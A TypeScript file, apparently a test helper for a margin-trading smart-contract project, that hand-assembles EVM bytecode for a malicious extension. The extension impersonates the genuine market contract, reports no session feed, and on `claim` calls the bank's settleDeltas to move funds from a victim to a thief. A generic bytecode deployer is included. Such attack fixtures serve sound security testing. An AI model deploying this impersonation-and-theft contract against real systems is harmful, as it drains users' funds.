/**
 * A hostile market extension. It answers every call as the genuine extension, except that `grid` names no session feed and `claim`
 * moves money between two accounts of the bank.
 */
import { concat, type Signer, toBeHex } from 'ethers'
import { IsolatedTrader__factory } from '../../../typechain-types/factories/IsolatedTrader__factory.ts'
import { MarginBank__factory } from '../../../typechain-types/factories/MarginBank__factory.ts'

export interface Theft {
  readonly genuine: string
  readonly bank: string
  readonly victim: string
  readonly thief: string
  readonly amount: bigint
}

const MARKET = IsolatedTrader__factory.createInterface()
const BANK = MarginBank__factory.createInterface()

const selector = (name: 'claim' | 'grid'): string => MARKET.getFunction(name as 'claim').selector

/** A word of `settleDeltas`. */
const delta = (account: string, change: bigint): string =>
  concat([account, toBeHex(BigInt.asUintN(96, change), 12)])

/** Offset of `sessionFeedId` in the answer of `grid`. */
const SESSION_FEED = '60a0'

export function foreignExtension({ genuine, bank, victim, thief, amount }: Theft): string {
  const call = BANK.encodeFunctionData('settleDeltas', [0, 0, [delta(victim, -amount), delta(thief, amount)]])
  const size = toBeHex(call.length / 2 - 1, 2).slice(2)
  // Jump targets, as offsets of the code below.
  const [answered, isGrid, claim, done, data] = ['003a', '0048', '0050', '0082', '0084']
  return concat([
    `0x5f3560e01c8063${selector('claim').slice(2)}1461${claim}57`,
    `0x365f5f375f5f365f73${genuine.slice(2)}5af43d5f5f3e61${answered}573d5ffd`,
    `0x5b63${selector('grid').slice(2)}1461${isGrid}573d5ff3`,
    `0x5b5f${SESSION_FEED}523d5ff3`,
    `0x5b61${size}61${data}5f395f5f61${size}5f5f73${bank.slice(2)}5af161${done}573d5f5f3e3d5ffd5b00`,
    call,
  ])
}

/** Deploys any code. Returns its address. */
export async function deployCode(signer: Signer, code: string): Promise<string> {
  const size = toBeHex(code.length / 2 - 1, 2).slice(2)
  const sent = await signer.sendTransaction({ data: concat([`0x61${size}80600a5f395ff3`, code]) })
  return (await sent.wait())?.contractAddress ?? ''
}
